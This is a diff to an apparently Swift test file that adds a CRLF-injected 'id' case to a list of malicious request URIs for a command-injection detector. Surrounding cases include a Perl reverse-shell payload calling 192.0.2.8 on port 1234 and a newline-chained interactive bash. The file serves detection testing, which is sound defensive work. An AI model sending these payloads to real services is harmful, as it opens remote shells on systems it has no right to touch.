@@ -55,6 +55,7 @@ import Testing
         Case(uri: "/q?f=1;perl -e 'use Socket;$i=\"192.0.2.8\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'",
              host: "192.0.2.8", port: nil, techniques: ["chain:;", "perl-socket-shell"]),
         Case(uri: "/q?f=1%0abash%20-i", host: nil, port: nil, techniques: ["chain:newline", "interactive-shell"]),
+        Case(uri: "/q?f=1%0d%0aid", host: nil, port: nil, techniques: ["chain:newline"]),
     ]
 
     @Test(arguments: malicious)
